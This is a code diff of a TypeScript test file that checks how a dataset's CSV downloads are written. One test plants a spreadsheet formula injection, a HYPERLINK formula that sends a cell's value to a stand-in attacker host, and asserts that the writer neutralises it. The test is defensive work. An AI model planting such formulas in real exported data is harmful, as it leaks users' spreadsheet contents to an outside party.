@@ -8,13 +8,14 @@ import { brotliDecompressSync, gunzipSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import { parseCsv } from '../src/loader/csv.js';
 import { loadDataset } from '../src/loader/load.js';
+import { releaseFiles } from '../src/release-files/index.js';
 import type { Dataset } from '../src/schemas/index.js';
-import { DOWNLOADS, writeDownloads } from './downloads.js';
+import { writeDownloads } from './downloads.js';
 import { DATA_DIR, DIST_DIR } from './paths.js';
 
 const dataset = loadDataset(DATA_DIR).dataset as Dataset;
 const dir = join(mkdtempSync(join(tmpdir(), 'mt0-downloads-')), 'downloads');
-const files = writeDownloads(dataset, dir);
+const files = writeDownloads(await releaseFiles(dataset), dir);
 
 describe('writeDownloads()', () => {
   it('writes one CSV per collection, every record of every grade', () => {
@@ -48,7 +49,7 @@ describe('writeDownloads()', () => {
     }
   });
 
-  it('neutralises a formula planted in the data, and keeps negative numbers as numbers', () => {
+  it('neutralises a formula planted in the data, and keeps negative numbers as numbers', async () => {
     const o = dataset.observations[0] as Dataset['observations'][number];
     const planted: Dataset = {
       ...dataset,
@@ -56,9 +57,8 @@ describe('writeDownloads()', () => {
     };
     const out = join(mkdtempSync(join(tmpdir(), 'mt0-downloads-')), 'd');
     writeDownloads(
-      planted,
+      (await releaseFiles(planted)).filter((d) => d.name === 'observations.csv'),
       out,
-      DOWNLOADS.filter((d) => d.name === 'observations.csv'),
     );
     const row = parseCsv(readFileSync(join(out, 'observations.csv'), 'utf8')).rows[0];
     expect(row?.cells.quote).toBe(`'=HYPERLINK("https://evil.example/?leak="&A2,"x")`);
